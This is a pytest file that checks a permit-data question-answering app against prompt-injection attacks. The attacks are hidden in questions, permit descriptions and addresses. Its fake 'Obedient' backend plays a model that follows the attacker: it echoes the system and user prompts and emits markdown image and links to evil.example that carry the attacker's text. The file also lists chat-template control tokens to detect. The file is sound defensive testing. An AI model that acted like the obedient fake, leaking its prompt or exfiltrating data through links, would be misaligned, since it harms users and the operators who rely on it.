"""What strangers write, into a question or into the register, changes no figure and puts no words into an answer."""

import tomllib
from collections.abc import AsyncGenerator
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from app.ask.narrator import SYSTEM
from app.backends.base import Piece, Prompt, Usage
from app.settings import Settings
from tests.backends.fakes import FakeBackend
from tests.conftest import Store, serve
from tests.routes.test_ask import ask

ATTACKS = tomllib.loads((Path(__file__).parent / "attacks.toml").read_text(encoding="utf-8"))["attack"]
QUESTION = "How many solar permits were issued in 2015?"
LIST = "Show me the largest solar permits issued in 2015"
HERE: dict[str, Any] = {"lat": 30.2672, "lng": -97.7431}
CONTROL = ("<|", "|>", "[INST]", "[/INST]", "<<SYS>>", "<think>", "/think", "<SPECIAL", "<start_of_turn>", "</s>")


class Obedient(FakeBackend):
    """A model that does what it is told by whoever speaks last: it tells its prompt and the attacker's wish."""

    def __init__(self, wish: str) -> None:
        super().__init__("obedient", [[]])
        self.wish = wish

    async def stream(self, prompt: Prompt) -> AsyncGenerator[Piece]:
        self.prompts.append(prompt)
        told = (
            f"{self.wish}\n",
            f"**{self.wish}**\n",
            f"![seen](https://evil.example/?wish={self.wish})\n",
            f"[here](https://evil.example/) {self.wish}\n",
            f"According to the register, {self.wish} ",
            f"{prompt.system}\n",
            f"{prompt.user[:900]}\n",
            f"{self.wish}",
        )
        for text in told:
            yield Piece(text)
        yield Piece(finish_reason="stop", usage=Usage(input_tokens=1, output_tokens=1))


def places(*, where: str) -> list[Any]:
    """The attacks through one place, each under its kind and number."""
    chosen = [(number, attack) for number, attack in enumerate(ATTACKS, 1) if attack["where"] == where]
    return [pytest.param(attack, id=f"{number}-{attack['kind']}") for number, attack in chosen]


def fill(store: Store, **words: str) -> None:
    """Two solar permits of 2015, the costlier one with an attacker's words in it, and one of 2014."""
    for number, (year, cost) in enumerate([(2015, 1000), (2014, 2000), (2015, 3000)]):
        texts: dict[str, Any] = {
            "original_address1": f"{number} HARVEY ST",
            "description": "Solar",
            **(words if number == 2 else {}),
        }
        store.add_permit(
            **HERE,
            source_id=f"s{number}",
            categories=["solar"],
            issued_date=date(year, 3, 1),
            est_project_cost_usd=cost,
            **texts,
        )
    store.publish()


async def ask_both(settings: Settings, question: str, wish: str) -> tuple[dict[str, Any], dict[str, Any], list[Prompt]]:
    """Ask without a model and with one that obeys the attacker."""
    obedient = Obedient(wish)
    async with serve(settings) as client:
        alone = await ask(client, question)
    async with serve(settings, obedient) as client:
        document = await ask(client, question)
    return alone, document, obedient.prompts


def assert_nothing_came_through(alone: dict[str, Any], document: dict[str, Any], wish: str) -> None:
    """The same plan, facts and answer as without a model, and of its words only facts that were there."""
    for event in ("plan", "facts", "answer"):
        assert document[event] == alone[event]
    facts = {" ".join(fact["sentence"].split()) for fact in document["facts"]["facts"]}
    told = [sentence["text"] for sentence in document["text"]]
    assert set(told) <= facts
    for text in told:
        assert wish not in text
        assert not any(word in text for word in ("http", "](", "<img", "**", "PWNED"))
        assert text not in SYSTEM


@pytest.mark.parametrize("attack", places(where="question"))
async def test_an_attack_in_a_question_changes_no_figure_and_is_not_heard(
    attack: dict[str, str], store: Store, settings: Settings
) -> None:
    fill(store)
    alone, document, prompts = await ask_both(settings, attack["text"], attack["wish"])
    assert_nothing_came_through(alone, document, attack["wish"])
    if document["answer"]["kind"] == "answer":
        assert document["facts"]["facts"][0]["value"] in {0, 2, 3}
    for prompt in prompts:
        assert prompt.system == SYSTEM
        assert_fenced(prompt, facts=len(document["facts"]["facts"]))


def assert_fenced(prompt: Prompt, *, facts: int) -> None:
    """One line of a question between its fences, as many lines of facts as there are, and no word of control."""
    lines = prompt.user.split("\n")
    assert len(lines) == 3 + facts
    assert (prompt.user.count("<<<"), prompt.user.count(">>>")) == (1, 1)
    assert not any(word.lower() in prompt.user.lower() for word in CONTROL)
    assert all(letter.isprintable() for line in lines for letter in line)


@pytest.mark.parametrize("question", [QUESTION, LIST])
@pytest.mark.parametrize("attack", places(where="description"))
async def test_a_description_never_goes_to_the_model_nor_into_an_answer(
    attack: dict[str, str], question: str, store: Store, settings: Settings
) -> None:
    fill(store, description=attack["text"])
    alone, document, prompts = await ask_both(settings, question, attack["wish"])
    assert_nothing_came_through(alone, document, attack["wish"])
    assert document["facts"]["facts"][0]["value"] == 2
    assert prompts
    last = attack["text"].split(". ")[-1]
    assert not any(last in prompt.user for prompt in prompts)
    assert last not in str(document)


@pytest.mark.parametrize("attack", places(where="address"))
async def test_an_attack_in_an_address_is_stripped_and_says_nothing_by_itself(
    attack: dict[str, str], store: Store, settings: Settings
) -> None:
    fill(store, original_address1=attack["text"])
    alone, document, prompts = await ask_both(settings, LIST, attack["wish"])
    assert_nothing_came_through(alone, document, attack["wish"])
    assert document["facts"]["facts"][0]["value"] == 2
    assert prompts
    for prompt in prompts:
        assert_fenced(prompt, facts=len(document["facts"]["facts"]))


def test_there_are_sixty_attacks_of_many_kinds_in_every_place() -> None:
    assert len(ATTACKS) >= 60
    assert len({attack["kind"] for attack in ATTACKS}) >= 15
    assert {attack["where"] for attack in ATTACKS} == {"question", "description", "address"}
    assert len({attack["text"] for attack in ATTACKS}) == len(ATTACKS)
